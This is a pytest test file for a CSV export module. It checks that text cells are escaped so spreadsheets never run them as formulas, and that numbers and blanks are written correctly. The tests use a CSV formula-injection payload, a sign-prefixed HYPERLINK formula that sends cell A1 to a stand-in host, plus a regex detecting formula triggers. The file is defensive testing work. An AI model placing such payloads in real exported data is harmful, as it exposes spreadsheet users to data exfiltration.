"""What leaves as CSV: numbers are numbers in a spreadsheet, and a stranger's text is text."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.storage.sheet import cell_text, csv_text

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n=", " =", "\t@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]")
NUMBER = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", re.IGNORECASE)


def read(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=separator))


def is_formula(cell: str) -> bool:
    return bool(FORMULA.match(cell)) and not NUMBER.fullmatch(cell.strip())


@pytest.mark.parametrize("sign", SIGNS, ids=ascii)
@pytest.mark.parametrize("behind", ["", "net", "1;", "a\n", "a;\n ", "a\t", "a|"], ids=ascii)
@pytest.mark.parametrize("place", ["head", "cell"])
def test_no_text_becomes_a_formula(sign: str, behind: str, place: str) -> None:
    text = f'{behind}{sign}HYPERLINK("http://x"&A1)'
    header, row = (("model", text), (1, 2)) if place == "head" else (("model", "b"), (1, text))
    written = csv_text(header, [row])
    for separator in ",;\t|":  # whatever the spreadsheet is told that the file has
        for line in read(written, separator):
            assert not any(is_formula(cell) for cell in line)
    if behind in ("", "net") and sign in "=+-@":
        (cells,) = [line for line in read(written) if "HYPERLINK" in line[1]]
        assert cells[1] == ("'" + text if not behind else text)


@pytest.mark.parametrize("separator", [",", "\t"], ids=ascii)
@given(text=st.text(st.characters(codec=None, exclude_categories=())))
def test_whatever_a_text_is_the_row_has_its_cells_and_nothing_is_obeyed(
    separator: str, text: str
) -> None:
    written = csv_text(("number", "text"), [(1, text)], separator)
    rows = read(written, separator)
    assert [len(row) for row in rows] == [2, 2]
    assert not is_formula(rows[1][1])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", written)
    written.encode()


@pytest.mark.parametrize("text", ["conv2d_add", "axis=-1", "a-b", "1e-3 s", "", "'x", "é", "a=b"])
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert cell_text(text) == text


@pytest.mark.parametrize(
    "number", [-1, 0, 1.5e-300, -2.5, True, np.float32(-0.5), np.int64(-7), "-3", "+1e-5", "-1.25"]
)
def test_numbers_stay_numbers(number: object) -> None:
    assert read(csv_text(("a",), [(number,)]))[1] == [str(number)]


@pytest.mark.parametrize("value", [None, float("nan"), float("-inf"), np.float64("inf")])
def test_a_number_that_is_unknown_is_left_out(value: object) -> None:
    assert read(csv_text(("a", "b"), [(value, 1)]))[1] == ["", "1"]
